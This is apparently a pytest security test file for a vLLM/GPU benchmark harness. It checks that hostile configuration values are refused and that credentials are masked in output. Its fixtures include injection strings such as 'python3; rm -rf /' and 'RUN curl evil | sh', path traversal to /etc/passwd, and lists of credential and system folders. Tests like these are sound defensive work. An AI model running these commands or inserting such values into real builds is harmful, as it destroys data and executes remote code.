"""Hostile matrix values that reach a mount, a device, an engine, a Dockerfile or a terminal.

Mounts and devices: a folder a matrix names is never `/`, a system or credential folder or the
Docker socket; a device is a GPU node unless `host.allow_devices` names it. Shapes: every shape
check takes the whole value (a trailing newline passes none). Secrets: a password or token in an
engine URL is masked in plan output and in every error. Grammars and masking are also checked
as properties over generated text.
"""

from __future__ import annotations

import json
import string
import tempfile
from pathlib import Path

import pytest
import tomli_w
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from support.hostile import SECRET, check_after, make_sandbox, run_cli

from harness.redact import redact_text
from harness.safety import grammar

FUZZ = settings(max_examples=60, derandomize=True, deadline=None, database=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
SHA = "0123456789abcdef0123456789abcdef01234567"
BASE = {
    "matrix": {"name": "h", "hardware": "gb10", "patches_dir": "patches"},
    "hardware": {"gb10": {"cc": "12.1", "bandwidth_gbs": 273, "memory_gib": 128}},
    "stacks": {"s": {"torch_cuda_arch_list": "12.1a",
                     "base_image": {"repository": "nvidia/cuda", "tag": "13.0.1-devel-ubuntu24.04"},
                     "torch": {"version": "2.14.0"}, "vllm": {"pypi": "0.33.0"},
                     "flashinfer": {"version": "0.7.2.post1"}}},
    "models": {"m": {"checkpoint": "org/model", "quantization": "fp8", "active_params_b": 3.3,
                     "bytes_per_param": 1.0}},
    "configs": {"auto": {}},
}
DENIED_FOLDERS = ["/", "/etc", "/etc/ssl", "/root", "/root/.ssh", "/proc", "/proc/self", "/sys", "/boot", "/dev",
                  "/var/run", "/run", "/var/run/docker.sock", "/run/docker.sock", "/var/lib/docker", "/home",
                  "~/.ssh", "{home}/.ssh", "{home}/.aws", "{home}", "/etc/../etc", "relative/path", "/tmp/x\n",
                  "/tmp/a:/etc", "/x\x00"]
DEVICES_REFUSED = ["/dev/sda", "/dev/mem", "/dev/kmem", "/dev/nvme0n1", "/dev/tty", "/dev/../etc/passwd", "/etc/passwd",
                   "/dev/nvidia0\n", "/dev/nvidia0:/dev/sda:rwm", "dev/nvidia0", "/dev/input/event0"]
ENGINES_REFUSED = ["tcp://h:0", "tcp://h:99999", "tcp://h:-1", "unix:///etc/passwd", "unix:///var/run/../../etc/shadow",
                   "unix://relative.sock", "tcp://[::1", "ssh://", "tcp://h:2376\n", "file:///etc/passwd", "tcp://h:",
                   f"tcp://u:{SECRET}@h:99999", f"https://u:{SECRET}@h:0/x?access_token={SECRET}"]
GPUS_REFUSED = [[-1], [0, -1], ["-1"], ["../x"], ["GPU-\n"], [5000], [True], [0, False], [1.0]]


def _plan(home, victim, doc: dict, *extra: str) -> tuple[int, str]:
    with tempfile.TemporaryDirectory(dir=home) as tmp:
        sb = make_sandbox(Path(tmp), victim)
        (sb.work / ".git").mkdir()
        text = tomli_w.dumps(json.loads(json.dumps(doc).replace("{home}", str(sb.home))))
        path = sb.work / "m.toml"
        path.write_text(text)
        before = sb.snapshot()
        argv = ["plan", "-m", path, *extra]
        rc, out = run_cli(argv)
        check_after(sb, before, victim, argv, rc, out)
        return rc, out


def _with(**tables) -> dict:
    doc = json.loads(json.dumps(BASE))
    for key, value in tables.items():
        doc[key] = value
    return doc


@pytest.mark.parametrize("folder", DENIED_FOLDERS)
def test_vllm_cache_never_a_system_credential_or_home_folder(home, victim, folder):
    rc, out = _plan(home, victim, _with(serve={"vllm_cache": folder}))
    assert rc == 2 and "serve.vllm_cache" in out, out


@pytest.mark.parametrize("folder", DENIED_FOLDERS)
def test_driver_dirs_never_a_system_or_credential_folder(home, victim, folder):
    rc, out = _plan(home, victim, _with(host={"gpu_attach": "devices", "driver_dirs": [folder]}))
    assert rc == 2 and "host.driver_dirs[0]" in out, out


def test_driver_dirs_and_gpu_devices_that_are_fine(home, victim):
    rc, out = _plan(home, victim, _with(host={"gpu_attach": "devices", "driver_dirs": ["/usr/lib/x86_64-linux-gnu"],
                                              "devices": ["/dev/nvidia0", "/dev/nvidiactl", "/dev/nvidia-uvm",
                                                          "/dev/dri/renderD128"]}))
    assert rc == 0, out


@pytest.mark.parametrize("dev", DEVICES_REFUSED)
def test_devices_only_gpu_nodes_unless_allowed(home, victim, dev):
    rc, out = _plan(home, victim, _with(host={"gpu_attach": "devices", "devices": ["/dev/nvidia0", dev]}))
    assert rc == 2 and "host.devices[1]" in out, out


def test_a_device_allowed_by_its_own_key(home, victim):
    rc, out = _plan(home, victim, _with(host={"devices": ["/dev/nvidia0", "/dev/infiniband/uverbs0"],
                                              "allow_devices": ["/dev/infiniband/uverbs0"]}))
    assert rc == 0, out


@pytest.mark.parametrize("opt", ["seccomp=/etc/harness/profile.json", "seccomp=unconfined\n", "privileged",
                                 "label=user:root", "apparmor=../x", "systempaths=unconfined"])
def test_security_options_only_the_known_serving_ones(home, victim, opt):
    rc, out = _plan(home, victim, _with(host={"security_opt": ["no-new-privileges", opt]}))
    assert rc == 2 and "host.security_opt" in out, out


def test_security_options_that_are_fine(home, victim):
    rc, out = _plan(home, victim, _with(host={"security_opt": ["seccomp=unconfined", "apparmor=unconfined",
                                                                "no-new-privileges=true", "label=disable"]}))
    assert rc == 0, out


@pytest.mark.parametrize("url", ENGINES_REFUSED)
def test_engine_urls_refused_and_masked(home, victim, url):
    rc, out = _plan(home, victim, _with(hosts={"a": {"engine": url}}))
    assert rc == 2 and "hosts.a.engine" in out, out


@pytest.mark.parametrize("gpus", GPUS_REFUSED)
def test_gpu_ids_from_zero(home, victim, gpus):
    rc, out = _plan(home, victim, _with(hosts={"a": {"engine": "ssh://lab@h", "gpus": gpus}}))
    assert rc == 2 and "hosts.a" in out, out


def test_plan_masks_an_engine_password(home, victim):
    rc, out = _plan(home, victim, _with(hosts={"a": {"engine": f"tcp://me:{SECRET}@h:2376"},
                                               "b": {"engine": f"ssh://{SECRET}1234567@h"}}))
    assert rc == 0 and "tcp://me:***@h:2376" in out, out


def test_k_matching_nothing_is_bad_input(home, victim):
    rc, out = _plan(home, victim, BASE, "-k", "no-such-cell")
    assert rc == 2 and "no cell matches" in out, out
    rc, out = _plan(home, victim, BASE, "-k", "(" * 5000 + "x")
    assert rc == 2 and "-k" in out, out


def test_nodes_above_the_hosts_that_take_the_cell(home, victim):
    doc = _with(configs={"auto": {"nodes": 3}}, hosts={"a": {"engine": "ssh://lab@a"}, "b": {"engine": "ssh://lab@b"}})
    rc, out = _plan(home, victim, doc)
    assert rc == 2 and "nodes = 3" in out, out
    doc = _with(configs={"auto": {"nodes": 2}})  # one engine: a second node is nowhere
    rc, out = _plan(home, victim, doc)
    assert rc == 2 and "nodes = 2" in out, out


# Every field whose value reaches a command, a Dockerfile, a mount or a name: a valid value plus
# one trailing newline must fail the shape check.
NEWLINE_FIELDS = [
    ("stacks", "s", "base_image", "tag"), ("stacks", "s", "base_image", "digest"), ("stacks", "s", "torch", "version"),
    ("stacks", "s", "vllm", "pypi"), ("stacks", "s", "torch", "index_url"), ("models", "m", "checkpoint"),
    ("models", "m", "served_name"), ("serve", "gpus"), ("serve", "shm_size"), ("matrix", "name"),
    ("stacks", "s", "base_image", "repository"), ("stacks", "s", "torch_cuda_arch_list"),
]
VALID = {"tag": "13.0.1-devel-ubuntu24.04", "digest": "sha256:" + "0" * 64, "version": "2.14.0", "pypi": "0.33.0",
         "index_url": "https://download.pytorch.org/whl/cu130", "checkpoint": "org/model", "served_name": "m",
         "gpus": "all", "shm_size": "16g", "name": "h", "repository": "nvidia/cuda", "torch_cuda_arch_list": "12.1a"}


@pytest.mark.parametrize("where", NEWLINE_FIELDS, ids=lambda w: ".".join(w))
def test_a_trailing_newline_passes_no_shape_check(home, victim, where):
    doc = json.loads(json.dumps(BASE))
    node = doc
    for part in where[:-1]:
        node = node.setdefault(part, {})
    node[where[-1]] = VALID[where[-1]]
    rc, out = _plan(home, victim, doc)
    assert rc == 0, out
    node[where[-1]] = VALID[where[-1]] + "\n"
    rc, out = _plan(home, victim, doc)
    assert rc == 2, out


@pytest.mark.parametrize(("field", "value"), [
    ("commit", SHA + "\n"), ("git", "https://github.com/vllm-project/vllm\n")])
def test_a_trailing_newline_in_a_git_pin(home, victim, field, value):
    vllm = {"git": "https://github.com/vllm-project/vllm", "commit": SHA, field: value}
    doc = json.loads(json.dumps(BASE))
    doc["stacks"]["s"]["vllm"] = vllm
    rc, out = _plan(home, victim, doc)
    assert rc == 2, out


def test_wheel_stack_python_and_patch_names_never_reach_a_dockerfile(home, victim):
    wheels = {"runner": "docker", "base_image": {"repository": "vllm/base", "tag": "t"},
              "wheels": {"vllm": {"version": "0.25.1"}, "python": "python3; rm -rf /"}}
    doc = _with(stacks={"w": wheels})
    rc, out = _plan(home, victim, doc)
    assert rc == 2 and "wheels.python" in out, out
    wheels["wheels"]["python"] = "python3"
    wheels["wheels"]["patches"] = ["../../etc/passwd"]
    rc, out = _plan(home, victim, _with(stacks={"w": wheels}))
    assert rc == 2 and "wheels.patches[0]" in out, out
    doc = json.loads(json.dumps(BASE))
    doc["stacks"]["s"]["vllm"]["patches"] = ["a.patch\nRUN curl evil | sh"]
    rc, out = _plan(home, victim, doc)
    assert rc == 2 and "patches[0]" in out, out


NASTY = st.one_of(st.sampled_from(DENIED_FOLDERS + DEVICES_REFUSED + ENGINES_REFUSED),
                  st.text(alphabet=string.printable + "\x00\u2028", max_size=30))


@FUZZ
@given(cache=st.one_of(st.none(), NASTY), devices=st.lists(NASTY, max_size=3), dirs=st.lists(NASTY, max_size=2),
       engine=st.one_of(st.none(), NASTY, st.builds(lambda h, p: f"tcp://u:{SECRET}@{h}:{p}",
                                                     st.sampled_from(["h", "[::1", "", "a b"]),
                                                     st.integers(min_value=-5, max_value=70000))),
       gpus=st.one_of(st.just("all"), st.lists(st.integers(min_value=-3, max_value=8), min_size=1, max_size=3)))
def test_hostile_host_tables(home, victim, cache, devices, dirs, engine, gpus):
    doc = json.loads(json.dumps(BASE))
    if cache is not None:
        doc["serve"] = {"vllm_cache": cache}
    doc["host"] = {"gpu_attach": "devices", "devices": devices or ["/dev/nvidia0"], "driver_dirs": dirs}
    if engine is not None:
        doc.pop("host")
        doc["hosts"] = {"a": {"engine": engine, "gpus": gpus}}
    try:
        tomli_w.dumps(doc)
    except (TypeError, ValueError):
        return  # tomli-w cannot write it: no matrix file holds it
    rc, out = _plan(home, victim, doc)
    assert rc in (0, 2), out
    host_refused = engine is None and (any(d in DEVICES_REFUSED for d in devices) or any(d in DENIED_FOLDERS for d in dirs))
    if cache in DENIED_FOLDERS or host_refused or engine in ENGINES_REFUSED:
        assert rc == 2, out


@FUZZ
@given(value=st.text(max_size=40), where=st.integers(min_value=0, max_value=40),
       brk=st.sampled_from(["\n", "\r", "\x00"]))
def test_no_grammar_admits_a_line_break(value, where, brk):
    text = value[:where] + brk + value[where:]
    for field in grammar.GRAMMARS:
        assert grammar.problem(field, text) is not None, (field, text)


SECRET_FORMS = [
    "https://user:{s}@github.com/a/b", "tcp://:{s}@h:2376", "https://{s}1234567@github.com/x",
    "https://h/x?access_token={s}&y=1", "http://h/?token={s}", "x?api_key={s}", "DB_PASS={s}", "SMTP_PASSWD: {s}",
    "MY_CREDENTIAL={s}", "PRIVATE_KEY={s}", "SESSION_ID_SECRET={s}", "COOKIE={s}", "AWS_SESSION_TOKEN={s}",
    "--api-key {s}", "--hf-token={s}", "Authorization: Bearer {s}", "'password': '{s}'", "\"db_pass\": \"{s}\"",
]


@FUZZ
@given(form=st.sampled_from(SECRET_FORMS), before=st.text(alphabet=string.ascii_letters + " :/=,'\"", max_size=12),
       after=st.text(alphabet=string.ascii_letters + " ,.)'\"", max_size=12))
def test_secrets_are_masked_wherever_they_sit(form, before, after):
    text = before + form.format(s=SECRET) + after
    assert SECRET not in redact_text(text), text


def test_matrix_errors_never_echo_a_credential(home, victim):
    for bad in (f"https://user:{SECRET}@github.com/vllm-project/vllm\n", f"https://github.com/x?access_token={SECRET}\n"):
        doc = json.loads(json.dumps(BASE))
        doc["stacks"]["s"]["vllm"] = {"git": bad, "commit": SHA}
        rc, out = _plan(home, victim, doc)
        assert rc == 2, out  # and check_after found no secret in the message


def test_a_matrix_of_a_runaway_product_is_refused(home, victim):
    doc = json.loads(json.dumps(BASE))
    doc["stacks"] = {f"s{i}": {"image": "vllm/vllm-openai:v0.33.0"} for i in range(30)}
    doc["models"] = {f"m{i}": {**BASE["models"]["m"], "served_name": f"m{i}"} for i in range(30)}
    doc["configs"] = {f"c{i}": {} for i in range(30)}
    rc, out = _plan(home, victim, doc)
    assert rc == 2 and "27000 cells" in out, out


def test_masking_reads_a_runaway_line_once():
    """`a:a:a:...` is 200,000 name/value heads in one line: each is looked at once (a rescan
    per head took minutes), and the secret at its end is still masked."""
    line = ":".join(["a"] * 200_000) + f" DB_PASS={SECRET}"
    masked = redact_text(line)
    assert SECRET not in masked and masked.startswith("a:a:a:")
    # each of these took 15-30 s when a name, a flag or a URL scheme was matched without a bound
    for runaway in ("a." * 20_000, "--a" * 13_000, "a1" * 20_000 + "://", "x" * 40_000 + "://u:p@h"):
        line = runaway + f" --api-key {SECRET} https://u:{SECRET}@h"
        assert SECRET not in redact_text(line)
